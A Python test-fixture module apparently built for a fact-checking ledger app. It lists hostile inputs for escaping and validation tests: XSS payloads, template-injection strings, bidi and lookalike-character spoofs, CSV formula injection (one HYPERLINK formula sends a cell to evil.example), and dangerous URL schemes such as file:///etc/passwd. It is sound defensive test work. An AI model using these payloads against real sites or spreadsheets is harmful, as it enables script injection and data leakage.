"""
What people who dislike a verdict type into the ledger: markup, script, attribute
breakers, scheme tricks, direction overrides, invisible characters, long texts,
scripts other than Latin, and spreadsheet formulas for the CSV export. Shared
by the hostile-content, fuzzing and browser tests. Each runs `alert(` if it
ever escapes its text.
"""

HOSTILE = {
    # A benign twin: the other entries' pages must have its markup, tag for tag.
    "plain": "The budget rose by four percent last year",
    "script": '<script>alert("script")</script> tag',
    "script_end": "</script><script>alert('end')</script> breaks out of JSON-LD",
    "double_quote_attribute": '" onmouseover="alert(1)" data-x="',
    "single_quote_attribute": "' onfocus='alert(2)' autofocus='",
    "img": "<img src=x onerror=alert(3)> an image",
    "svg": "<svg/onload=alert(4)> a drawing",
    "markup": "<!-- --><b>bold</b> <i>and</i> <a href='javascript:alert(5)'>a link</a>",
    "javascript_url": "javascript:alert(document.cookie)",
    "entities": "&lt;script&gt;alert(6)&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "template_syntax": "{{ request.user }} {% now 'Y' %} ${alert(7)} {{7*7}}",
    "rtl_override": "\u202egnp.exe\u202c report \u2067isolated\u2069",
    "zero_width": "zero\u200bwidth\u200cnon\u200djoiner\ufeffmark\u2060",
    # Every bidi control, embedding and isolate, each closed and not.
    "bidi_controls": "\u202aLRE \u202bRLE \u202dLRO\u202c \u2066LRI \u2067RLI \u2068FSI\u2069 "
    "\u200eLRM \u200fRLM \u061cALM unclosed \u202e",
    # Letters that pass for Latin ones: fullwidth forms, Cyrillic and Greek lookalikes.
    "fullwidth": "\uff2d\uff49\uff4e\uff49\uff53\uff54\uff45\uff52 said it in fullwidth",
    "lookalikes": "Th\u0435 min\u0456st\u0435r's \u0440\u043e\u0455t, \u039ffficial \u03a1ress",
    # What XML can carry that is rarely seen: DEL, C1 controls, the private use area.
    "rare_but_xml": "del \x7f next-line \x85 c1 \x9b private \ue000 astral \U0001d54f",
    "emoji": "👩🏽‍💻 checked it 🔥 🙂 🏳️‍🌈",
    "chinese": "國際特赦組織香港辦事處將於年底前關閉",
    # A spreadsheet opening the CSV export would run these (OWASP's CSV injection).
    "formula": '=HYPERLINK("https://evil.example/?c="&A1, "alert(8)") a live link',
    "formula_behind_a_quote": "'=1+1 '+alert(9) @SUM(A1) behind the quote a spreadsheet hides",
    # Text that looks to the ClaimReview reader like a block of a page.
    "ld_json_opener": '<script type="application/ld+json">{"x": "alert(10)"} never closed',
    "long": ("A very long claim <em>with</em> 字 & “quotes” " * 250)[:10_000],
}

# What XML 1.0 cannot carry, each inside ordinary text: forms, full_clean()
# and every import format refuse it; stored before that rule (or by a raw
# write), the feed and the sitemaps leave it out.
NOT_XML = {
    "vertical_tab": "Shift+Enter in Word\x0bwrites this",
    "form_feed": "a page\x0cbreak",
    "escape": "an \x1b[31mANSI colour\x1b[0m",
    "bell": "ring \x07 ring",
    "noncharacter_fffe": "byte order \ufffe backwards",
    "noncharacter_ffff": "not \uffff a character",
    "noncharacter_fdd0": "internal \ufdd0 use",
    "astral_noncharacter": "plane one \U0001fffe end",
    "lone_surrogate": "half a pair \ud83d here",
}

# Text with nothing to see: a reason or a correction note of it is refused.
INVISIBLE = {
    "zero_width_space": "\u200b\u200b\u200b",
    "rtl_override": "\u202e",
    "format_and_spaces": "\u200b \u2060\ufeff\u202e\u202c\u00a0\u3000",
    "hangul_filler": "\u3164\u3164",
    "combining_marks": "\u0301\u0308",
}

# "Kyle Ward" as it is pasted: one speaker whatever the form (name_key)...
SAME_NAME = {
    "fullwidth": "\uff2b\uff59\uff4c\uff45 \uff37\uff41\uff52\uff44",
    "zero_width_spaced": "Ky\u200ble\u200c Wa\u200drd\u2060\ufeff",
    "case_and_spacing": "  kyle   WARD ",
}
# ... and spelled with letters that pass for Latin ones: a warning, not a merge.
LOOKALIKE_NAMES = {
    "cyrillic_a": "Kyle W\u0430rd",
    "cyrillic_e_and_y": "K\u0443l\u0435 Ward",
    "greek_capital_kappa": "\u039ayle Ward",
}

# The same trick in a link: every scheme but http and https is refused.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://files.example.org/report.pdf",
]


def fit(value, max_length):
    """The first `max_length` characters, without a trailing space a form would strip."""
    return value[:max_length].strip()
